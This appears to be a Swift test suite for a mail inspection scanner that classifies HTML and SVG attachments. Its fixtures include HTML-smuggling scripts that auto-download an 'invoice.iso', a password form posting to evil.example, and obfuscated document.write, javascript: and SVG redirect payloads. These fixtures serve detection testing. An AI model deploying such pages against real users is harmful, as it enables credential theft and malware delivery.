import Mail
import Testing

@testable import Inspection

/// What pages do when they are opened as files, and what they may not do in a message's own text.
@Suite struct MarkupCheckTests {
  private func rules(_ page: String, _ name: String = "a.html") -> Set<String> {
    let report = MessageInspectorTests.report(Array(page.utf8), .file(name: name))
    return Set(report.findings.map(\.rule))
  }

  private func verdict(_ page: String, _ name: String = "a.html") -> Verdict {
    MessageInspectorTests.report(Array(page.utf8), .file(name: name)).verdict
  }

  private let blob = String(repeating: "TVqQAAMAAAAEAAAA", count: 100)

  @Test func `a page that builds a file is malicious`() {
    let page = """
      <html><script>var d = atob("\(blob)"); var b = new Blob([d]);
      var a = document.createElement('a'); a.href = URL.createObjectURL(b);
      a.download = 'invoice.iso'; a.click();</script></html>
      """
    #expect(rules(page).contains("html.smuggling"))
    #expect(verdict(page) == .malicious)
  }

  @Test func `a page that clicks what it built is malicious, a chart that can be saved is not`() {
    let builds = """
      var a = document.createElement('a'); a.href = URL.createObjectURL(new Blob([x(key)]));
      a['cli' + 'ck']();
      """
    #expect(verdict("<html><script>\(builds)</script></html>") == .malicious)
    let library = String(repeating: "function draw(a){return a};", count: 2000)
    let chart = rules("<html><script>\(library)\(builds)</script></html>")
    #expect(chart.contains("html.builds-file") && !chart.contains("html.smuggling"))
  }

  @Test func `a download from the link itself is smuggling, too`() {
    let page = "<html><a download=x.zip href='data:application/zip;base64,\(blob)'>Open</a></html>"
    #expect(rules(page).contains("html.smuggling"))
  }

  @Test func `a page that asks for a password is phishing`() {
    let page = "<html><form action='https://evil.example/x'><input type=PassWord></form></html>"
    #expect(rules(page) == ["html.password-form"])
    #expect(verdict(page) == .phishing)
  }

  @Test func `a form that a script writes is found behind its encodings`() {
    let inner = "<form action='https://evil.example/'><input type='password' name='p'></form>"
    let percent = inner.utf8.map { "%" + String(Int($0) + 0x100, radix: 16).dropFirst() }.joined()
    #expect(
      rules("<html><script>document.write(unescape('\(percent)'))</script></html>")
        .isSuperset(of: ["html.password-form", "html.hidden-code"]))
  }

  @Test func `an invisible start tag and references hide nothing`() {
    let page = "<html><A HREF='&#106;ava&#x0A;script&colon;location.replace(\"//x\")'>x</A></html>"
    #expect(rules(page).contains("html.script-redirect"))
    #expect(
      rules("<html><!-- never closed <input type=password></html>").contains("html.password-form"))
  }

  @Test func `a picture with a script is suspicious, one that leads away is malicious`() {
    let open = "<svg xmlns='http://www.w3.org/2000/svg'>"
    #expect(verdict(open + "<script>alert(1)</script></svg>", "a.svg") == .suspicious)
    #expect(verdict(open + "<script>window.location = 'x'</script></svg>", "a.svg") == .malicious)
    #expect(verdict(open + "<circle r='1'/></svg>", "a.svg") == .clean)
  }

  @Test func `a newsletter's own markup is clean`() {
    let lines = [
      "From: shop@example.jp", "Date: Wed, 01 Apr 2026 09:00:00 +0900", "Content-Type: text/html",
      "",
      "<html><head><script type=\"application/ld+json\">{\"a\":1}</script></head><body>",
      "<form action='https://shop.example.jp/s'><input name=q></form>",
      "<img src='data:image/png;base64,AAAA'><a href='https://shop.example.jp/'>Shop</a>",
      "</body></html>",
    ]
    let report = MessageInspectorTests.report(lines)
    #expect(report.findings.isEmpty)
  }

  @Test func `what is not read to its end is told`() {
    var page = "<form action=http://a.example/><input type=password></form>"
    for _ in 0..<3 {
      page = "<script>document.write(atob('\(Base64.encode(Array(page.utf8)))'))</script>"
    }
    #expect(!rules(page).contains("html.unread"))
    for _ in 0..<3 {
      page = "<script>document.write(atob('\(Base64.encode(Array(page.utf8)))'))</script>"
    }
    #expect(rules(page).contains("html.unread"))
    #expect(rules("<html>" + String(repeating: "text ", count: 2 << 20)).contains("html.unread"))
  }

  @Test func `traps cost no more than their octets`() {
    let limit = 200_000
    for trap in [
      "<", "<!--", "<a ", "<a x=\"", "</", "<script", "<script></scrip", "&#", "<a b='&",
    ] {
      let page = "<html>" + String(repeating: trap, count: limit / trap.utf8.count)
      let start = ContinuousClock.now
      _ = rules(page)
      #expect(start.duration(to: .now) < .seconds(20), "\(trap)")
    }
  }
}
